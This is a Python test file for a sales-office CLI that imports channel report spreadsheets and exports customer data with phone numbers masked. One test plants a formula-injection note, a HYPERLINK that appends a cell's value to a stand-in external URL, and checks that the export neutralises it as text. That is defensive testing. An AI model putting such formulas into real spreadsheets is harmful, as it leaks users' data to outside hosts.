"""`anchang import-reports` and `anchang export`: Excel in, Excel out, phones masked."""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import openpyxl
import pytest
import sqlalchemy as sa

from admin.cli import main
from db.clock import SystemClock
from db.database import make_engine
from db.keys import Keyring
from db.models import JournalEntry, Report
from db.personal import InvalidPhone
from service.store import ManualClock, Store

SHANGHAI = ZoneInfo("Asia/Shanghai")
NOW = datetime.now(UTC)
T0 = NOW - timedelta(days=3)  # the site's registry was set up three days ago
YESTERDAY = (NOW - timedelta(days=1)).astimezone(SHANGHAI).replace(microsecond=0, second=0)


@pytest.fixture
def store(db_url: str, data_dir: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Store]:
    monkeypatch.setenv("ANCHANG_DATABASE_URL", db_url)
    with monkeypatch.context() as before_t0:  # init journals its first admin: before the story starts
        before_t0.setattr(SystemClock, "now", lambda self, session: T0 - timedelta(minutes=1))
        before_t0.setattr(SystemClock, "sql_now", staticmethod(lambda dialect_name: None))
        assert main(["init"]) == 0
    s = Store(make_engine(db_url), Keyring.load(data_dir), clock=ManualClock(T0), station="test")
    for name in ("王丽", "李强"):
        s.add_consultant(name)
    s.add_channel("贝壳", ["周杰", "吴芳"])
    s.add_channel("链家", ["郑伟", "孙丽"])
    s.add_channel("中原", ["钱明"])
    s.set_duty(["王丽", "李强"])
    yield s
    s.dispose()


def workbook(path: Path, headers: list[str], rows: list[list[Any]]) -> Path:
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.title = "报备"
    sheet.append(["某某项目 渠道报备汇总"])  # a title line above the header, as offices do
    sheet.append(headers)
    for row in rows:
        sheet.append(row)
    book.save(path)
    return path


def reports(store: Store) -> list[tuple[str, str, str | None, str, datetime]]:
    with store.engine.connect() as conn:
        rows = conn.execute(sa.select(Report.channel, Report.agent, Report.reason, Report.status,
                                      Report.reported_at).order_by(Report.id)).all()
    return [(r.channel, r.agent, r.reason, r.status, r.reported_at.replace(tzinfo=UTC)) for r in rows]


SHEET_ROWS: list[list[Any]] = [
    ["贝壳", "周杰", "13812340001", "张三", YESTERDAY.replace(tzinfo=None)],  # row 3: good, at its own time
    ["链家", "郑伟", "138 1234 0002", None, None],  # row 4: good, now
    ["中原", "钱明", "13812340001", "张三", None],  # row 5: good row, judged a duplicate report
    ["万科", "小王", "13812340003", None, None],  # row 6: unknown channel
    ["贝壳", "郑伟", "13812340004", None, None],  # row 7: agent of another channel
    ["贝壳", "周杰", "12345", None, None],  # row 8: bad phone
    ["贝壳", "周杰", "138****0004", None, None],  # row 9: masked number, project takes full numbers
    ["贝壳", "周杰", "13812340001", "张三", None],  # row 10: same as row 3
    ["贝壳", "吴芳", "13812340005", None, (NOW + timedelta(days=1)).astimezone(SHANGHAI).replace(tzinfo=None)],
    [None, None, None, None, None],  # blank: skipped
    ["链家", "孙丽", 13812340006, None, "昨天下午"],  # row 13: a time nobody can read
    ["链家", "孙丽", 13812340007, "李四", None],  # row 14: good, phone typed as a number
    ["贝壳", None, "13812340008", None, None],  # row 15: agent missing
]


def test_import_keeps_good_rows_and_names_bad_ones(store: Store, tmp_path: Path,
                                                   capsys: pytest.CaptureFixture[str]) -> None:
    path = workbook(tmp_path / "reports.xlsx", ["渠道", "经纪人", "客户电话", "客户姓名", "报备时间"], SHEET_ROWS)
    capsys.readouterr()
    assert main(["import-reports", str(path)]) == 1  # some rows were rejected
    out = capsys.readouterr().out
    expected = {6: "unknown channel", 7: "has no agent", 8: "invalid phone number", 9: "masked number",
                10: "duplicate of row 3", 11: "in the future", 13: "not a time", 15: "agent is empty"}
    for number, reason in expected.items():
        line = next((ln for ln in out.splitlines() if f"rejected row {number}:" in ln), "")
        assert reason in line, f"row {number}: {line!r}"
    assert "rejected row 12" not in out  # the blank row is no row at all
    assert re.search(r"\d{11}", out) is None
    assert "imported 4: 3 pending, 1 invalid; 8 rows rejected" in out

    recorded = reports(store)
    assert [(c, a, reason, status) for c, a, reason, status, _ in recorded] == [
        ("贝壳", "周杰", None, "pending"),
        ("链家", "郑伟", None, "pending"),
        ("中原", "钱明", "duplicate_report", "invalid"),
        ("链家", "孙丽", None, "pending"),
    ]
    assert all(at > NOW - timedelta(minutes=5) for *_, at in recorded)  # when they reached the system
    row3 = next(ln for ln in out.splitlines() if "row 3:" in ln)
    assert f"stated {YESTERDAY.strftime('%Y-%m-%d %H:%M')}" in row3 and "over the 30 min tolerance" in row3
    assert store.customer_id("13812340007") is not None


def stated_times(store: Store) -> list[dict[str, Any]]:
    with store.engine.connect() as conn:
        payloads = conn.execute(sa.select(JournalEntry.payload).where(
            JournalEntry.kind == "report_stated_time").order_by(JournalEntry.seq)).scalars().all()
    return [json.loads(p) for p in payloads]


def test_a_back_dated_sheet_does_not_defeat_pre_intercept(store: Store, tmp_path: Path,
                                                          capsys: pytest.CaptureFixture[str]) -> None:
    """防截客: a sheet dated just under three hours ago, imported a moment before the channel's visit,
    leaves a report that reached the system too late: it is invalid (pre_intercept)."""
    stated = (datetime.now(UTC) - timedelta(hours=2, minutes=50)).astimezone(SHANGHAI).replace(microsecond=0)
    path = workbook(tmp_path / "late.xlsx", ["channel", "agent", "phone", "time"],
                    [["贝壳", "周杰", "13812340001", stated.replace(tzinfo=None)]])
    capsys.readouterr()
    assert main(["import-reports", str(path)]) == 0
    out = capsys.readouterr().out
    assert "imported 1: 1 pending" in out
    assert "over the 30 min tolerance" in out and "1 reports state a time" in out
    store.clock = ManualClock(datetime.now(UTC) + timedelta(seconds=1))
    store.register_visit("13812340001", channel="贝壳", agent="周杰")
    [(channel, agent, reason, status, at)] = reports(store)
    assert (status, reason) == ("invalid", "pre_intercept")
    assert at > stated + timedelta(hours=2)  # counted from the journal time, not the sheet's
    [kept] = stated_times(store)
    assert datetime.fromisoformat(kept["stated_at"]) == stated


def test_the_tolerance_is_configurable(store: Store, data_dir: Path, tmp_path: Path,
                                       capsys: pytest.CaptureFixture[str]) -> None:
    stated = (datetime.now(UTC) - timedelta(hours=2)).astimezone(SHANGHAI).replace(tzinfo=None)
    (data_dir / "anchang.toml").write_text("[import]\nstated_time_tolerance_minutes = 180\n", encoding="utf-8")
    rows = [["贝壳", "周杰", "13812340001", stated], ["链家", "郑伟", "13812340002", stated]]
    path = workbook(tmp_path / "r.xlsx", ["channel", "agent", "phone", "time"], rows[:1])
    capsys.readouterr()
    assert main(["import-reports", str(path)]) == 0
    assert "tolerance" not in capsys.readouterr().out  # two hours is within three
    path = workbook(tmp_path / "r2.xlsx", ["channel", "agent", "phone", "time"], rows[1:])
    assert main(["import-reports", str(path), "--tolerance-minutes", "60"]) == 0
    assert "over the 1 h 00 min tolerance" in capsys.readouterr().out
    assert len(stated_times(store)) == 2
    assert main(["import-reports", str(path), "--tolerance-minutes", "-5"]) == 1
    assert "--tolerance-minutes must be a whole number" in capsys.readouterr().err


def test_masked_numbers_written_with_x_are_recorded(store: Store, tmp_path: Path,
                                                    capsys: pytest.CaptureFixture[str]) -> None:
    store.change_rules({"channel.number_mode": "masked_3_4"})
    path = workbook(tmp_path / "m.xlsx", ["channel", "agent", "phone"],
                    [["贝壳", "周杰", "136xxxx6091"], ["链家", "郑伟", "137＊＊＊＊6092"]])
    capsys.readouterr()
    assert main(["import-reports", str(path)]) == 0
    out = capsys.readouterr().out
    assert "imported 2: 2 pending, 0 invalid; 0 rows rejected" in out and "136****6091" in out


def test_only_mainland_mobiles_are_customers(store: Store, tmp_path: Path,
                                             capsys: pytest.CaptureFixture[str]) -> None:
    """The import's check, the store and `forget` agree, and quote the number as it was typed."""
    path = workbook(tmp_path / "p.xlsx", ["channel", "agent", "phone"],
                    [["贝壳", "周杰", "010-8888 6666"], ["链家", "郑伟", "+852 9123 4567"]])
    capsys.readouterr()
    assert main(["import-reports", str(path)]) == 1
    out = capsys.readouterr().out
    assert "'010-8888 6666'" in out and "'+852 9123 4567'" in out
    assert out.count("only mainland China mobile numbers") == 2 and "imported 0" in out
    with pytest.raises(InvalidPhone, match="'010-8888 6666'.*only mainland China mobile"):
        store.register_visit("010-8888 6666")
    assert main(["forget", "+852 9123 4567"]) == 2
    assert "'+852 9123 4567'" in capsys.readouterr().err


def test_dry_run_records_nothing(store: Store, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    path = workbook(tmp_path / "reports.xlsx", ["渠道", "经纪人", "客户电话", "客户姓名", "报备时间"], SHEET_ROWS)
    capsys.readouterr()
    assert main(["import-reports", str(path), "--dry-run"]) == 1
    out = capsys.readouterr().out
    assert "dry run" in out and "rejected row 6" in out and "138****0001" in out
    assert reports(store) == []


def test_a_sheet_without_the_phone_column_is_refused(store: Store, tmp_path: Path,
                                                     capsys: pytest.CaptureFixture[str]) -> None:
    path = workbook(tmp_path / "bad.xlsx", ["渠道", "经纪人", "客户姓名"], [["贝壳", "周杰", "张三"]])
    assert main(["import-reports", str(path)]) == 2
    assert "missing column" in capsys.readouterr().err
    not_excel = tmp_path / "notes.xlsx"
    not_excel.write_text("hello", encoding="utf-8")
    assert main(["import-reports", str(not_excel)]) == 2
    assert "not an .xlsx workbook" in capsys.readouterr().err
    assert reports(store) == []


def test_export_is_masked(store: Store, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    store.record_report("贝壳", "周杰", "13812340001", "张三")
    store.clock.at = T0 + timedelta(hours=20)  # type: ignore[attr-defined]
    store.register_visit("13812340001", channel="贝壳", agent="周杰", name="张三")
    store.register_visit("13812340002")
    store.register_visit("13812340002", consultant="王丽")  # a competing registration: a case
    store.change_stage("13812340001", "王丽", "pledge")
    target = tmp_path / "out.xlsx"
    assert main(["export", "--out", str(target)]) == 0
    book = openpyxl.load_workbook(target)
    assert book.sheetnames == ["客户", "报备", "判客案件", "预警"]
    customers = book["客户"]
    assert [c.value for c in customers[1]][:4] == ["客户编号", "手机(掩码)", "归属顾问", "保护期至"]
    texts = [str(cell.value) for sheet in book for row in sheet.iter_rows() for cell in row if cell.value]
    assert not any(re.search(r"\d{11}", text) for text in texts)
    assert "138****0001" in texts and "138****0002" in texts
    assert "贝壳" in [c.value for c in customers["E"]] and "认筹" in [c.value for c in customers["G"]]
    assert book["判客案件"].max_row == 2 and book["判客案件"]["B2"].value == "归属争议"


def test_export_writes_notes_and_names_like_formulas_as_text(store: Store, tmp_path: Path) -> None:
    note = '=HYPERLINK("http://x.example/?"&C2,"点击查看")'
    store.add_channel("=渠道", ["@经纪人"])
    store.record_report("=渠道", "@经纪人", "13812340001", "张三")
    store.clock.at = T0 + timedelta(hours=1)  # type: ignore[attr-defined]
    store.register_visit("13812340001", channel="=渠道", agent="@经纪人")
    owner = store.register_visit("13812340002").assigned_to
    store.register_visit("13812340002", consultant="王丽" if owner == "李强" else "李强")  # competing: a case
    for day in (1, 2, 3):
        store.clock.at = T0 + timedelta(days=day, hours=-1)  # type: ignore[attr-defined]
        store.register_visit("13812340001")  # repeat visits without a pledge: a warning
    site = store.site()
    store.decide_case(next(iter(site.cases)), "王丽", "-经理核实", by="经理")
    store.update_warning(next(iter(site.warnings)), "following", note, by="王丽")
    target = tmp_path / "out.xlsx"
    assert main(["export", "--out", str(target)]) == 0
    book = openpyxl.load_workbook(target)
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert [f"{c.parent.title}!{c.coordinate}" for c in cells if c.data_type == "f"] == []
    texts = {c.value for c in cells if c.data_type == "s"}
    assert {"'" + note, "'=渠道", "'@经纪人", "'-经理核实"} <= texts  # shown as written, after the quote
    assert isinstance(book["客户"]["A2"].value, int) and book["客户"]["I2"].is_date  # ids and times as written
